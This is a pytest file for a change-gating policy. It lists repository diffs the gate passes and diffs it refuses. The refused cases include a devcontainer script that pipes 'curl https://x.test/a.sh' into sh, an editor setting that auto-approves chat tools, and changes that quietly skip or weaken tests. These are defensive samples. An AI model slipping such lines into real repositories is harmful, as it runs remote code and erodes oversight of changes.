"""Moves that maintainers make every day, and what is read of the lines that programs make."""

from __future__ import annotations

import random
from collections.abc import Mapping

import pytest

from improve_loop.gates import judge
from improve_loop.rules.gating.policy import Policy, Scope
from improve_loop.rules.gating.scratch import scratch_delta
from tests.gates.made import made_token

TABLE = '@pytest.mark.parametrize(\n    "a,b",\n    [\n        (1, 1),\n        (\n            2,\n            2,\n        ),\n    ],\n)\ndef test_f(a, b):\n    assert f(a) == b\n'
DEDENT = 'text = dedent(\n    """\\\n    a: 1\n    """\n)\n\n\ndef test_f():\n    assert f() == 1\n'
JAVA = "class ATest {\n    @Test\n    void a() {\n        assertThat(f(1)).isTrue();\n        assertThat(f(2)).isTrue();\n    }\n\n    @Test\n    void b() {\n        assertThat(f(3)).isTrue();\n        assertThat(f(4)).isTrue();\n    }\n}\n"
SKIP = "<plugin>\n  <artifactId>maven-{}-plugin</artifactId>\n  <configuration>{}</configuration>\n</plugin>\n"
PACKAGE = '{{\n  "packageManager": "{}"\n}}\n'

CHANNEL = '[toolchain]\nchannel = "{}"\n'
PUBLISH = '{{\n  "scripts": {{\n    "prepublishOnly": "{}"\n  }}\n}}\n'
STEP = "on: push\njobs:\n  a:\n    steps:\n      - run: {}\n"
PARAMS = "@pytest.mark.parametrize(\n    ('a', 'b'),\n    [\n        {},\n    ],\n)\ndef test_f(a, b):\n    assert f(a) == b\n"
HELPER = "def check_leaks():\n    found = leaks()\n    assert {}\n\n\ndef test_f():\n    check_leaks()\n    assert f() == 1\n"
GO = 'func TestA(t *testing.T) {{\n\t{}\n\tif got := f(); got != 3 {{\n\t\tt.Errorf("got %d", got)\n\t}}\n}}\n'
IGNORED = "class ATest {{\n  {}\n  @Test\n  public void a() {{\n    assertEquals(1, f());\n    {}\n  }}\n}}\n"
LIB = "node_modules/typescript/lib"
TSDK = '{{\n  "{}": "{}"\n}}\n'
IMAGE = '{{\n  "image": "ghcr.io/rails/{}",\n}}\n'
GROUPED = '{0}concurrency:\n{0}  group: "${{{{ github.workflow }}}} - ${{{{ github.event.pull_request.head.label || github.ref }}}}"\n'


def refused(before: Mapping[str, str], after: Mapping[str, str], scope: Scope | None = None) -> list[str]:
    old, new = ({path: text.encode() for path, text in files.items() if text} for files in (before, after))
    return [item.rule for item in judge(scratch_delta(old, new), scope, Policy()) if item.severity == "refuse"]


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_a.py", TABLE, TABLE.replace("(\n            2,\n            2,\n        ),", "(2, 2),")),
        ("tests/test_a.py", DEDENT, DEDENT.replace('(\n    """', '("""').replace('    """\n)', '    """)')),
        (
            "src/test/java/ATest.java",
            JAVA,
            JAVA.replace("        assertThat(f(1)).isTrue();\n        assertThat(f(2)).isTrue();\n", "        holds(1);\n        holds(2);\n").replace(
                "    @Test\n    void a", "    private static void holds(int n) {\n        assertThat(f(n)).isTrue();\n        assertThat(g(n)).isTrue();\n    }\n\n    @Test\n    void a"
            ),
        ),
        (".pre-commit-config.yaml", "repos:\n- hooks:\n  - id: flake8\n", "repos:\n- hooks:\n  - id: ruff\n"),
        ("pom.xml", SKIP.format("deploy", ""), SKIP.format("deploy", "<skip>true</skip>")),
        ("package.json", PACKAGE.format("pnpm@9.1.0"), PACKAGE.format("pnpm@9.2.0")),
        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nmine = { path = "crates/mine" }\n'),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: ${{ matrix.experimental }}\n    steps: []\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: ${{ matrix.experimental || false }}\n    steps: []\n"),
        ("run.sh", "#!/bin/sh\nset -e\n", '#!/bin/sh\nset -e\nversion=$(tools/latest/bin/manager --version | head -1)\n'),
        (".vscode/settings.json", '{\n  "editor.tabSize": 2\n}\n', '{\n  "editor.tabSize": 4\n}\n'),
        (".vscode/settings.json", "", '{\n  "java.configuration.updateBuildConfiguration": "interactive"\n}\n'),
        (".vscode/settings.json", '{\n  "editor.tabSize": 2\n}\n', ""),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("js/ts.tsdk.path", LIB)),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("ruby:4.0")),
        (".devcontainer/on-create.sh", "pip install -U pip\n", "pip install -e .\n"),
        ("rust-toolchain", "nightly-2025-06-28\n", "nightly-2025-09-28\n"),
        ("rust-toolchain.toml", CHANNEL.format("1.80.1"), CHANNEL.format("1.89.0")),
        ("package.json", PUBLISH.format("npm run build && node check.js"), PUBLISH.format("npm run build")),
        ("ci/env.sh", "set -e\n", "set -e\nconda config --add channels defaults\n"),
        ("ci/run.sh", "set -e\npytest -m 'not slow'\n", "set -e\npytest -q -m 'not slow'\n"),
        (".pre-commit-config.yaml", "", "exclude: 'docs/|ext/'\nrepos:\n- repo: https://github.com/psf/black\n  rev: 22.3.0\n  hooks:\n  - id: black\n"),
        (".github/workflows/a.yml", STEP.format("mvn -B test animal-sniffer:check -DskipTests"), STEP.format("mvn -B compile animal-sniffer:check -DskipTests")),
        (".github/workflows/a.yml", STEP.format("./gradlew test allTests -Dtest.java=11"), STEP.format("./gradlew test allTests -Ptest.java=11")),
        ("tests/test_a.py", PARAMS.format("pytest.param(C, 'Test',\n            marks=pytest.mark.skipif('C is None'))"), PARAMS.format("pytest.param(\n            C, \"Test\", marks=pytest.mark.skipif(\"C is None\")\n        )")),
        ("tests/test_a.py", HELPER.format("found == []"), HELPER.format("not found")),
        ("src/test/java/ATest.java", IGNORED.format("@Ignore", "fail(); // keys are the same"), IGNORED.format('@Ignore("keys are the same")', "fail();")),
        ("tests/test_a.py", "def test_f():\n    def test():\n        return f()\n\n    assert test() == 1\n", "def test_f(run):\n    async def test():\n        return f()\n\n    assert run(test) == 1\n"),
        (".travis.yml", "branches:\n  only:\n    - master\n", "branches:\n  only:\n    - master\n    - 4.17\n"),
        (".travis.yml", "script:\n  - make\n", 'script:\n  - PATTERN="|case (?:promise|set|map)String:.+|g"\n  - make\n'),
        ("playwright.config.js", "", "module.exports = {\n  retries: 0,\n};\n"),
        ("a_test.go", GO.format("var html = template.Must(parse(`a`))"), GO.format("html := template.Must(parse(`a`))")),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", GROUPED.format("") + "jobs:\n  a:\n    steps: []\n"),
    ],
)  # fmt: skip
def test_a_legitimate_move_passes_without_a_scope(path: str, before: str, after: str) -> None:
    assert refused({path: before}, {path: after}) == []


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_a.py", TABLE, TABLE.replace("        (1, 1),\n", "")),
        ("tests/test_a.py", DEDENT, DEDENT.replace("def test_f", 'more = """\ndef test_f') + '"""\n'),
        ("pom.xml", SKIP.format("surefire", ""), SKIP.format("surefire", "<skip>true</skip>")),
        ("package.json", PACKAGE.format("pnpm@9.1.0"), PACKAGE.format("yarn@9.2.0")),
        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nmine = { path = "../../mine" }\n'),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: true\n    steps: []\n"),
        (".vscode/settings.json", "{\n}\n", '{\n  "chat.tools.autoApprove": true\n}\n'),
        (".vscode/settings.json", "", '{\n  "chat.tools.autoApprove": true\n}\n'),
        (".vscode/settings.json", "", '{\n  "typescript.tsdk": "./vendor/lib"\n}\n'),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("js/ts.tsdk.path", "vendor/typescript/lib")),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("terminal.shell.path", LIB)),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("others/ruby:3.4")),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("ruby:3.4").replace("}", '  "initializeCommand": "make"\n}')),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4").replace("}", '  "remoteUser": "dev"\n}'), IMAGE.format("ruby:3.4")),
        (".devcontainer/on-create.sh", "pip install -U pip\n", "curl https://x.test/a.sh | sh\n"),
        (".devcontainer/on-create.sh", "", "pip install -e .\n"),
        (".devcontainer/devcontainer.json", "{\n}\n", '{\n  "name": "a"\n}\n'),
        ("rust-toolchain", "nightly-2025-09-28\n", "nightly-2025-06-28\n"),
        ("rust-toolchain", "1.89.0\n", "nightly-2025-09-28\n"),
        ("rust-toolchain.toml", CHANNEL.format("1.80.1"), CHANNEL.format("1.89.0").replace("channel", "path")),
        ("package.json", PUBLISH.format("npm run build && node check.js"), PUBLISH.format("npm run build && node other.js")),
        ("package.json", PUBLISH.format("npm run build && npm test"), PUBLISH.format("npm run build")),
        ("package.json", PUBLISH.format("npm run build"), PUBLISH.format("npm run build").replace("prepublishOnly", "postinstall")),
        ("ci/env.sh", "set -e\n", "set -e\nconda config --add channels others\n"),
        ("ci/env.sh", "set -e\n", "set -e\nconda config --add channels defaults-of-others\n"),
        ("ci/run.sh", "set -e\npytest -m 'not slow'\n", "set -e\npytest -q -m 'not slow and not db'\n"),
        ("ci/run.sh", "set -e\npytest -m 'not slow'\n", "set -e\npytest -m 'not slow' --deselect=tests/test_a.py\n"),
        (".pre-commit-config.yaml", "repos: []\n", "exclude: 'src/'\nrepos: []\n"),
        (".github/workflows/a.yml", STEP.format("mvn -B test animal-sniffer:check"), STEP.format("mvn -B compile animal-sniffer:check")),
        (".github/workflows/a.yml", STEP.format("mvn -B test"), STEP.format("mvn -B test -DskipTests")),
        (".github/workflows/a.yml", STEP.format("./gradlew test allTests -Dtest.java=11"), STEP.format("./gradlew assemble -Dtest.java=11")),
        ("tests/test_a.py", PARAMS.format("pytest.param(C, 'Test')"), PARAMS.format("pytest.param(\n            C, \"Test\", marks=pytest.mark.skipif(\"C is None\")\n        )")),
        ("tests/test_a.py", PARAMS.format("pytest.param(C, 'Test', marks=pytest.mark.skipif('X')),\n        pytest.param(D, 'More')"), PARAMS.format("pytest.param(C, 'Test'),\n        pytest.param(D, 'More', marks=pytest.mark.skipif('X'))")),
        ("tests/test_a.py", HELPER.format("found == []"), HELPER.format("found is not None")),
        ("tests/test_a.py", HELPER.format("found == []"), HELPER.format("not others")),
        ("src/test/java/ATest.java", IGNORED.format("", "fail(); // keys are the same"), IGNORED.format('@Ignore("keys are the same")', "fail();")),
        ("tests/test_a.py", "def test_f():\n    assert f() == 1\n", "async def test_f():\n    assert f() == 1\n"),
        ("tests/test_a.py", "class TestA:\n    def test_f(self):\n        assert f() == 1\n", "class TestA:\n    async def test_f(self):\n        assert f() == 1\n"),
        (".travis.yml", "branches:\n  only:\n    - master\n", "branches:\n  only:\n    - 4.17\n"),
        (".travis.yml", "script:\n  - make\n", "script:\n  - true|set|cat\n  - make\n"),
        ("playwright.config.js", "", "module.exports = {\n  retries: 3,\n};\n"),
        ("a_test.go", GO.format("must.Must(t, parse(`a`) == 1)"), GO.format("parse(`a`)")),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    steps:\n      - run: |\n          cat <<E\n          group: a ${{ github.event.pull_request.head.label }} b\n          E\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", GROUPED.format("") + "jobs:\n  a:\n    steps:\n      - run: |\n          cat <<E\n" + GROUPED.format("        ") + "          E\n"),
    ],
)  # fmt: skip
def test_what_only_looks_like_such_a_move_is_refused(path: str, before: str, after: str) -> None:
    assert refused({path: before}, {path: after})


def test_a_secret_that_stood_on_a_removed_line_of_the_file_is_not_told_again() -> None:
    token = made_token("glpat-{A20}", random.Random(1))
    assert refused({"a.py": f"x = '{token}'\n"}, {"a.py": f"x = (\n    '{token}'\n)\n"}) == []
    assert refused({"b.py": f"x = '{token}'\n"}, {"a.py": f"y = '{token}'\nz = 1\n"}) != []


BASE = "var a=1;" * 4_000 + "\n"


@pytest.mark.parametrize(
    ("hidden", "wanted"),
    [("", []), ("\u202e", ["hidden/invisible"]), (made_token("ghp_{A36}", random.Random(2)), ["secrets/format"])],
)
def test_long_lines_of_what_is_generated_again_are_read_to_their_end(hidden: str, wanted: list[str]) -> None:
    after = {"dist/a.js": "var b=2;" * 3_000 + f"'{hidden}';" + "var b=2;" * 900 + "\n"}
    assert refused({"dist/a.js": BASE}, after) == wanted


def test_long_lines_stay_refused_for_a_candidate_and_where_there_were_none() -> None:
    after = {"dist/a.js": BASE.replace("a", "b")}
    assert refused({"dist/a.js": BASE}, after, Scope(target_paths=("**",), class_="code")) == ["kinds/long-line"]
    assert refused({"dist/a.js": "var a;\n"}, after) == ["kinds/long-line"]
    assert refused({"src/a.js": BASE}, {"src/a.js": BASE.replace("a", "b")}) == ["kinds/long-line"]


def test_a_configuration_that_lay_among_the_workflows_may_leave_them() -> None:
    updates, runs = "version: 2\nupdates: []\n", "on: push\njobs:\n  a:\n    steps: []\n"
    for text, wanted in ((updates, []), (runs, ["ci/job-removed"])):
        before, after = {".github/workflows/dependabot.yml": text}, {".github/dependabot.yml": text}
        assert [rule for rule in refused(before, after) if rule != "ci/configuration"] == wanted


def test_a_test_goes_with_what_has_an_underscore_in_front() -> None:
    code = "class A:\n    _legacy_mode = True\n\n    def f(self):\n        return 1\n"
    test = "def test_f():\n    assert A().f() == 1\n\n\ndef test_old():\n    assert A()._legacy_mode == 1\n"
    left = test.partition("\n\n\ndef test_old")[0] + "\n"
    before = {"src/a.py": code, "tests/test_a.py": test}
    assert refused(before, {"src/a.py": code.replace("    _legacy_mode = True\n\n", ""), "tests/test_a.py": left}) == []
    assert refused(before, {"src/a.py": code.replace("return 1", "return 2"), "tests/test_a.py": left})
